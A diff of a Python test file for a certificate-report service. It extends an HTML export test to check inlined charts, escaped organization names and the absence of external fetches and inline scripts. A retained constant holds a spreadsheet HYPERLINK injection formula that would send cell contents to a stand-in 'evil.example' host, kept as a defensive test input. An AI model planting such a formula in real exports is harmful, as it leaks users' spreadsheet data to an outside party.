@@ -6,6 +6,8 @@ from __future__ import annotations
 import csv
 import hashlib
 import io
+import json
+import re
 from datetime import timedelta
 
 import pytest
@@ -30,8 +32,8 @@ from app.services.errors import Conflict, DomainError, NotFound
 from app.services.reports import generation
 from app.services.reports.catalog import Filters
 from app.services.scope import SYSTEM
-from tests.conftest import drain
-from tests.factories import make_admin, make_org
+from tests.conftest import drain, login
+from tests.factories import PASSWORD, make_admin, make_org
 
 EVIL = '=HYPERLINK("http://evil.example/?"&A1,"Click me")'
 
@@ -181,13 +183,37 @@ def test_xml_reports_are_well_formed(app, stub_worker, report_type):
         assert "bell.example" in {r.findtext("common_name") for r in rows}
 
 
-def test_html_export_is_one_page(app, stub_worker):
+def test_html_export_is_one_page_with_its_charts_inlined(app, stub_worker, client):
     mrao = make_admin()
     add_certificates(make_org("<b>Acme</b>"), 2)
-    _, data = run(stub_worker, mrao, fmt="html")
+    add_certificates(make_org("Other"), 3, prefix="web", days=400)
+    report, data = run(stub_worker, mrao, fmt="html", chunk_rows=2)
     page = data.decode()
     assert page.startswith("<!DOCTYPE html>") and "&lt;b&gt;Acme&lt;/b&gt;" in page
-    assert "<script" not in page and "2 rows." in page
+    assert "5 rows." in page
+    # Standalone: plotly.js inlined (the installed file, whole), nothing fetched from
+    # elsewhere: no src= and no http(s) URL outside the inlined library.
+    plotly_js = generation.plotly_source()
+    assert plotly_js in page and "<script src" not in page
+    outside = page.replace(plotly_js, "")
+    assert "http://" not in outside and "https://" not in outside
+    # The figures are the report's counts over every chunk; the organization's name is
+    # data inside a script, so no "<" of it is left there.
+    start = outside.index("var figures=") + len("var figures=")
+    figures = json.loads(outside[start : outside.index(";figures.forEach")])
+    titles = [f["layout"]["title"]["text"] for f in figures]
+    assert titles[:3] == ["By status", "Expiring by month", "By organization"]
+    by_org = figures[2]["data"][0]
+    assert dict(zip(by_org["x"], by_org["y"], strict=True)) == {"Other": 3, "<b>Acme</b>": 2}
+    assert "<b>Acme</b>" not in outside[start:]
+    assert figures[2]["layout"]["yaxis"]["tickformat"] == ",d"  # whole numbers
+    months = figures[1]["data"][0]
+    assert sum(months["y"]) == 5 and months["x"] == sorted(months["x"])
+    # The console's HTML view draws the same figures from data attributes, no inline script.
+    login(client, "mrao", PASSWORD)
+    view = client.get(f"/admin/reports/view/?id={report.id}").get_data(as_text=True)
+    assert view.count("data-figure=") == len(figures)
+    assert not re.search(r"<script(?![^>]*\bsrc=)[^>]*>", view)
 
 
 def test_cancel_stops_the_chunks_and_purge_deletes_expired_reports(app, stub_worker):
